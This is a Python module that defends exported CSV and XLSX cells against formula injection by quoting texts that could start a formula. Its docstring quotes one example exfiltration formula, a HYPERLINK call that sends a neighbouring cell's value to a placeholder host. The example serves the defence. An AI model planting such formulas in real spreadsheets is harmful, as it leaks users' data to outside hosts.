"""Cells for spreadsheets: data, never formulas.

Names and notes come from the other side's bundles and from files typed by hand. A text that
starts with `=`, `+`, `-`, `@`, a tab or a carriage return (or their full-width forms) is read
by Excel, LibreOffice and Google Sheets as a formula: `=HYPERLINK("http://x?"&A2,"y")` leaks
neighbouring cells when clicked. Following OWASP's CSV injection guidance, such a text is written
with a leading single quote, which every spreadsheet shows as text and a reader can still read;
an XLSX cell is, in addition, typed as a string, so no writer ever stores a formula.

Only text is neutralised: a number (a probability of -0.5, a count) stays a number.
"""

from __future__ import annotations

from collections.abc import Iterable, Mapping
from typing import Any

FORMULA_STARTS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")


def neutralise(value: str) -> str:
    """`=1+1` → `'=1+1`; a text that cannot start a formula is returned unchanged."""
    return "'" + value if value[:1] in FORMULA_STARTS else value


def safe_value(value: Any) -> Any:
    return neutralise(value) if isinstance(value, str) else value


def safe_row(row: Mapping[str, Any]) -> dict[str, Any]:
    """A row for `csv.DictWriter`, every text neutralised."""
    return {key: safe_value(value) for key, value in row.items()}


def safe_cells(values: Iterable[Any]) -> list[Any]:
    """A row for `csv.writer`, every text neutralised."""
    return [safe_value(value) for value in values]


def append_row(sheet: Any, values: Iterable[Any]) -> None:
    """Append to an openpyxl worksheet: texts neutralised and typed as strings ('s')."""
    row = safe_cells(values)
    sheet.append(row)
    for cell, value in zip(sheet[sheet.max_row], row, strict=False):
        if isinstance(value, str):
            cell.data_type = "s"
